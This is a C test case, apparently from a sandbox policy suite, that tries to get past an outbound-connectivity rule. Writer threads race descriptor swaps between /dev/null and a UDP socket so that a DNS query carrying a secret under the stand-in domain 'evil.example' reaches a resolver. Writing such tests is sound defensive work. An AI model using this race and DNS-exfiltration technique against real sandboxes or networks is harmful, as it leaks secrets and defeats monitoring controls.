// class: network
// rule: outbound_connectivity
// policy: shared.yaml
// success: threads write a question that carries data to an fd, which is given to a socket and
//   connected to the resolver after they were allowed
// proof: query
// needs: resolver
// timeout: 40
#include "attack.h"
#include <pthread.h>

enum { WRITERS = 3, PLACE = 700 };
static volatile int over;
static char question[256] = {0x12, 0x34, 1, 0, 0, 1};
static size_t size = 12;

static void part(const char *text)
{
    question[size] = (char)strlen(text);
    memcpy(question + size + 1, text, strlen(text));
    size += strlen(text) + 1;
}

static void *say(void *unused)
{
    while (!over) write(PLACE, question, size);
    return NULL;
}

int main(void)
{
    pthread_t threads[WRITERS];
    struct sockaddr_in resolver = {.sin_family = AF_INET, .sin_port = htons(53)};
    int nowhere = open("/dev/null", O_RDWR), asked = 0;
    char answer[512];
    time_t end = time(NULL) + patience(4);
    inet_pton(AF_INET, env("ATTACK_RESOLVER"), &resolver.sin_addr);
    part(SECRET_);
    part("evil");
    part("example");
    memcpy(question + size, "\0\0\1\0\1", 5);
    size += 5;
    dup2(nowhere, PLACE);
    for (int i = 0; i < WRITERS; i++) pthread_create(&threads[i], NULL, say, NULL);
    while (time(NULL) < end && !asked) {
        int fd = socket(AF_INET, SOCK_DGRAM, 0);
        dup2(fd, PLACE);
        connect(fd, (struct sockaddr *)&resolver, sizeof resolver);
        usleep(500); // who looks now sees what it is
        dup2(nowhere, PLACE);
        struct timeval patience = {.tv_usec = 20000};
        setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
        asked = recv(fd, answer, sizeof answer, 0) > 12 && strstr(answer + 12, SECRET_) != NULL;
        close(fd);
    }
    over = 1;
    for (int i = 0; i < WRITERS; i++) pthread_join(threads[i], NULL);
    errno = EACCES;
    return asked ? reached() : stopped("nothing was asked");
}
